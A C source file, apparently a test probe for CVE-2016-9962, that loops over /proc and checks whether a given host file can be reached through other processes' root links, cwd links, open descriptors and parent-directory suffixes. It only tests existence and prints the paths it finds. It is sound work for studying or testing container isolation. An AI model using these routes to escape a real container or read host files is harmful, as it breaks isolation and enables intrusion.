/*
 * grab PATH SECONDS: searches every process that appears in this pid namespace for a way to the file PATH of the host: its root, its
 * working directory, its descriptors and what is above them (CVE-2016-9962). Prints how many processes it saw, and each way that it found.
 * SIGUSR2 ends the search earlier.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int seen, looked, found;
static volatile sig_atomic_t ended;

static void end_search(int number) {
  (void)number;
  ended = 1;
}

static void look(const char* what, const char* file) {
  char path[8192];
  static const char* const ways[] = {"", "/..", "/../..", "/1/root"};
  looked++;
  for (int i = 0; i < 4; i++) {
    snprintf(path, sizeof path, "%s%s%s", what, ways[i], file);
    if (access(path, F_OK) != 0) continue;
    found++;
    printf("found %s\n", path);
  }
}

static void look_at(const char* pid, const char* file) {
  char path[300], one[600];
  seen++;
  snprintf(path, sizeof path, "/proc/%s/root", pid);
  look(path, file);
  snprintf(path, sizeof path, "/proc/%s/cwd", pid);
  look(path, file);
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (!fds) return;
  for (struct dirent* fd; (fd = readdir(fds));) {
    if (fd->d_name[0] == '.') continue;
    snprintf(one, sizeof one, "%s/%s", path, fd->d_name);
    look(one, file);
  }
  closedir(fds);
}

int main(int argc, char** argv) {
  if (argc != 3) return 64;
  time_t end = time(NULL) + atoi(argv[2]);
  pid_t self = getpid();
  signal(SIGUSR2, end_search);
  printf("ready\n");
  fflush(stdout);
  while (!ended && time(NULL) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc));) {
      int pid = atoi(entry->d_name);

      if (pid > 0 && pid != self) look_at(entry->d_name, argv[1]);
    }
    closedir(proc);
  }
  printf("saw %d looked %d found %d\n", seen, looked, found);
  return 0;
}
